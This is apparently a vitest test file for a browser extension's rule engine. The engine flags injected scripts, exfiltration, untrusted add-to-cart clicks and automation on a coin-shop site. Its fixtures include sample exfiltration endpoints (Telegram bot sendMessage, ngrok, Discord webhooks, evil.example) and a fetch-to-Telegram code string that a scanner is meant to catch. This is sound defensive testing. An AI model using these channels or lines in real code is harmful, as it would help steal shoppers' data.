import { describe, expect, it } from 'vitest';
import baseline from '../../../rules/baseline.json' with { type: 'json' };
import type { Finding } from '../../../src/shared/findings.ts';
import { compileRuleSet } from '../../../src/shared/rules/compile.ts';
import {
  classifyRequest,
  evaluate,
  exfilIndicator,
  isFirstParty,
  isTrusted,
  scanTokens,
  siteProfile,
} from '../../../src/shared/rules/match.ts';
import { PAGE, body, exfilRule, finding } from './fixtures.ts';

const compiled = compileRuleSet(baseline);
const ids = (f: Finding): string[] => evaluate(compiled, f, { pageUrl: PAGE }).map((v) => v.ruleId);
const script = (src: string, extra: Finding['evidence'] = {}): Finding['evidence'] => ({
  src,
  inline: false,
  selfRemoved: false,
  sha256: '',
  text: '',
  ...extra,
});

describe('engine on the baseline: first-party vs foreign actors', () => {
  it('stays silent on the shop lazily loading its own chunk', () => {
    const f = finding('script-inserted', { type: 'page', url: PAGE }, script('/assets/chunk-42.js'));
    expect(ids(f)).toEqual([]);
  });

  it('flags the same insertion by an extension from an unknown host', () => {
    const f = finding('script-inserted', { type: 'extension', extensionId: 'x' }, script('https://helper.example/h.js'));
    expect(ids(f)).toEqual(['SAQ-INJ-001']);
  });

  it('only notes an unlisted third party the page itself loads', () => {
    const f = finding('script-inserted', { type: 'page', url: PAGE }, script('https://chat.vendor.example/w.js'));
    expect(evaluate(compiled, f, { pageUrl: PAGE }).map((v) => [v.ruleId, v.severity])).toEqual([['SAQ-INJ-002', 'info']]);
  });

  it('treats an analytics beacon to a trusted provider as benign and a Telegram send as critical', () => {
    const ev = (url: string): Finding['evidence'] => ({ url, via: 'beacon', method: 'POST', afterSensitiveRead: false, bytes: 10 });
    expect(
      ids(finding('exfiltration', { type: 'script', url: 'https://cdn.shopmetrics.test/m.js' }, ev('https://cdn.shopmetrics.test/c'))),
    ).toEqual([]);
    const telegram = evaluate(compiled, finding('exfiltration', { type: 'anonymous' }, ev('https://api.telegram.org/bot1/sendMessage')), {
      pageUrl: PAGE,
    });
    expect(telegram.map((v) => [v.ruleId, v.severity])).toEqual([
      ['SAQ-EXF-002', 'critical'],
      ['SAQ-EXF-001', 'warning'],
    ]);
    expect(telegram[0]?.messageKey).toBe('rule_exfil_known_channel');
    expect(telegram[0]?.references.every((r) => r.startsWith('https://'))).toBe(true);
  });

  it('finds WebRTC endpoints foreign (a peer is no web origin) and a TURN relay on a known tunnel host a known channel', () => {
    const ev = (url: string, afterSensitiveRead = false): Finding['evidence'] => ({
      url,
      via: 'webrtc',
      method: 'CONNECT',
      afterSensitiveRead,
      bytes: 0,
    });
    const helper = { type: 'script' as const, url: 'https://cdn.helper-bot.example/h.js' };
    expect(ids(finding('exfiltration', helper, ev('udp://203.0.113.7:3479')))).toEqual(['SAQ-EXF-001']);
    expect(ids(finding('exfiltration', helper, ev('turn:relay.helper-bot.example:3478?transport=udp', true)))).toEqual([
      'SAQ-EXF-003',
      'SAQ-EXF-001',
    ]);
    expect(ids(finding('exfiltration', helper, ev('turns:0.tcp.NGROK.io:12345')))).toEqual(['SAQ-EXF-002', 'SAQ-EXF-001']);
    // The shop's own host as a TURN server is still not the shop's web origin; a URI with no host is no place at all.
    expect(ids(finding('exfiltration', helper, ev('stun:kazcoins.nationalbank.kz')))).toEqual(['SAQ-EXF-001']);
    expect(ids(finding('exfiltration', helper, ev('turn:?transport=udp')))).toEqual([]);
  });

  it("escalates untrusted clicks by count and ignores the page's own", () => {
    const click = (type: Finding['actor']['type'], count: number): Finding =>
      finding('untrusted-activation', { type }, { control: 'add-to-cart', event: 'click', count, windowMs: 10_000 });
    expect(ids(click('anonymous', 1))).toEqual(['SAQ-ACT-001']);
    expect(ids(click('anonymous', 3))).toEqual(['SAQ-ACT-002', 'SAQ-ACT-001']);
    expect(ids(click('page', 9))).toEqual([]);
  });

  it('keeps devtools to an info note', () => {
    const v = evaluate(compiled, finding('automation-marker', { type: 'unknown' }, { marker: 'devtools-open', name: '' }), {
      pageUrl: PAGE,
    });
    expect(v.map((x) => x.severity)).toEqual(['info']);
  });

  it('resolves relative evidence URLs against the page', () => {
    const f = finding('unhooked-cart-request', { type: 'unknown' }, { url: '/api/cart/items', method: 'POST', hooksActive: true });
    expect(ids(f)).toEqual(['SAQ-CART-003']);
    expect(ids(f)).toEqual(ids({ ...f, evidence: { ...f.evidence, url: 'https://kazcoins.nationalbank.kz/api/cart/items' } }));
  });
});

describe('helpers for the background', () => {
  it('classifies origins and requests by the profile', () => {
    expect(isFirstParty(compiled, 'https://kazcoins.nationalbank.kz/ru/')).toBe(true);
    expect(isFirstParty(compiled, 'wss://kazcoins.nationalbank.kz/queue')).toBe(true);
    expect(isFirstParty(compiled, 'http://kazcoins.nationalbank.kz/')).toBe(false);
    expect(isTrusted(compiled, 'https://epay.kazpay.test/pay')).toBe(true);
    expect(isTrusted(compiled, 'https://epay.kazpay.test.evil.example/')).toBe(false);
    expect(classifyRequest(compiled, 'https://kazcoins.nationalbank.kz/api/cart/reserve')).toBe('cart');
    expect(classifyRequest(compiled, 'https://kazcoins.nationalbank.kz/api/order')).toBe('order');
    expect(classifyRequest(compiled, 'https://epay.kazpay.test/pay')).toBe('checkout');
    expect(classifyRequest(compiled, 'https://evil.example/api/cart/items')).toBeNull();
    expect(classifyRequest(compiled, 'not a url')).toBeNull();
    expect(siteProfile(compiled).purchase_control_selectors).toContain('[data-action="add-to-cart"]');
  });

  it('finds exfiltration indicators by host, suffix and pattern', () => {
    expect(exfilIndicator(compiled, 'https://api.telegram.org/bot1/x')?.ruleId).toBe('SAQ-EXF-002');
    expect(exfilIndicator(compiled, 'https://a.b.ngrok-free.app/x')?.ruleId).toBe('SAQ-EXF-002');
    expect(exfilIndicator(compiled, 'https://discord.com/api/webhooks/1/t')?.ruleId).toBe('SAQ-EXF-002');
    expect(exfilIndicator(compiled, 'https://discord.com/channels/1')).toBeNull();
    expect(exfilIndicator(compiled, 'https://ngrok-free.app.evil.example/')).toBeNull();
  });

  it('scans code tokens', () => {
    expect(scanTokens(compiled, 'fetch("https://api.telegram.org/bot1:x/sendMessage")')).toEqual(['SAQ-DYN-003', 'SAQ-INJ-006']);
    expect(scanTokens(compiled, 'window.__STATE__ = {}')).toEqual([]);
  });
});

describe('allow rules', () => {
  const allow = (expires: string, extra: Record<string, unknown> = {}): Record<string, unknown> =>
    exfilRule('SAQ-ALW-001', {
      allow: true,
      expires,
      severity: 'info',
      message: 'rule_allow_vendor',
      when: { evidence: { url: { url_pattern: ['https://vendor.example/**'] } } },
      samples: {
        positive: [finding('exfiltration', { type: 'page' }, { url: 'https://vendor.example/c' })],
        negative: [finding('exfiltration', { type: 'page' }, { url: 'https://evil.example/c' })],
      },
      ...extra,
    });
  const vendor = finding('exfiltration', { type: 'page' }, { url: 'https://vendor.example/c' });
  const evil = finding('exfiltration', { type: 'page' }, { url: 'https://evil.example/c' });
  const NOW = Date.UTC(2030, 0, 1);
  const set = body([exfilRule(), allow('2031-01-01T00:00:00Z')]);

  it('suppress other verdicts for the finding they match, while active', () => {
    const c = compileRuleSet(set, { now: NOW });
    expect(evaluate(c, vendor, { pageUrl: PAGE, now: NOW })).toEqual([]);
    expect(evaluate(c, evil, { pageUrl: PAGE, now: NOW }).map((v) => v.ruleId)).toEqual(['SAQ-EXF-001']);
  });

  it('stop applying past their own expiry, at compile or at evaluation time', () => {
    const late = Date.UTC(2031, 0, 2);
    expect(evaluate(compileRuleSet(set, { now: late }), vendor, { pageUrl: PAGE, now: late }).map((v) => v.ruleId)).toEqual([
      'SAQ-EXF-001',
    ]);
    const compiledEarly = compileRuleSet(set, { now: NOW });
    expect(evaluate(compiledEarly, vendor, { pageUrl: PAGE, now: late }).map((v) => v.ruleId)).toEqual(['SAQ-EXF-001']);
  });

  it('are disabled entirely when the payload has expired (allowRulesActive: false)', () => {
    const c = compileRuleSet(set, { now: NOW, allowRulesActive: false });
    expect(c.rules.has('SAQ-ALW-001')).toBe(false);
    expect(evaluate(c, vendor, { pageUrl: PAGE, now: NOW }).map((v) => v.ruleId)).toEqual(['SAQ-EXF-001']);
  });

  it('silence only the listed rules when `suppresses` is given', () => {
    const other = exfilRule('SAQ-EXF-009', { severity: 'danger', message: 'rule_other' });
    const c = compileRuleSet(body([exfilRule(), other, allow('2031-01-01T00:00:00Z', { suppresses: ['SAQ-EXF-001'] })]), { now: NOW });
    expect(evaluate(c, vendor, { pageUrl: PAGE, now: NOW }).map((v) => v.ruleId)).toEqual(['SAQ-EXF-009']);
  });
});
